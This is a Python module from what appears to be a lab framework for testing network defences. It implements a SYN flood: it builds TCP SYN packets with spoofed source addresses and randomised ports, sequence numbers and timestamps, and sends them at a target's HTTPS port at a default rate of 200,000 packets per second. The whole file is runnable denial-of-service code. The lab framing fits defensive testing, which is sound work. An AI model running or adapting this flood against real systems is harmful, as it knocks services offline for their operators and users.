"""SYN flood: the first packet of TCP's handshake, again and again, from sources that never were.

Each fills a place in the table of half-open connections, or costs the edge a SYN cookie.
"""

from __future__ import annotations

import numpy as np

from rempart.lab.attacks.contract import Attack, AttackParameters, Order, Sources, Unit
from rempart.lab.attacks.ip_frames import TCP, Packet, any_ports, flood
from rempart.lab.attacks.packets import BATCH, Frames, put16, put32
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

OPTIONS = bytes.fromhex("020405b40402080a000000000000000001030307")
"""What Linux sends with a SYN: MSS 1460, SACK permitted, timestamps, window scale 7."""


class SynFlood(AttackParameters):
    """Nothing of its own."""


SYN_FLOOD = Attack(
    name="syn-flood",
    unit=Unit.PACKETS,
    summary="TCP SYNs from spoofed sources to the HTTPS port",
    defaults=SynFlood(rate=200_000, sources=Sources.SPOOFED),
    sender=lambda order: own_sender(order, "syn_flood", packets=True),
)


def packet(order: Order) -> Packet:
    """A SYN (RFC 9293)."""
    header = (
        bytes(2) + order.target.https_port.to_bytes(2, "big") + bytes(8) + bytes.fromhex("a002faf000000000")
    )

    def renew(frames: Frames, at: int, chosen: np.random.Generator) -> None:
        put16(frames, at, any_ports(chosen))
        for field in (4, 28):  # sequence number, the sender's time stamp
            put32(frames, at + field, chosen.integers(0, 1 << 32, BATCH, dtype=np.uint32))

    return Packet(TCP, header + OPTIONS, renew, checksum_at=16)


def carry_out(order: Order, tally: Tally) -> None:
    parameters = SynFlood.model_validate(order.parameters)
    flood(order, parameters, tally, lambda v6: packet(order))


if __name__ == "__main__":
    run_sender(carry_out)
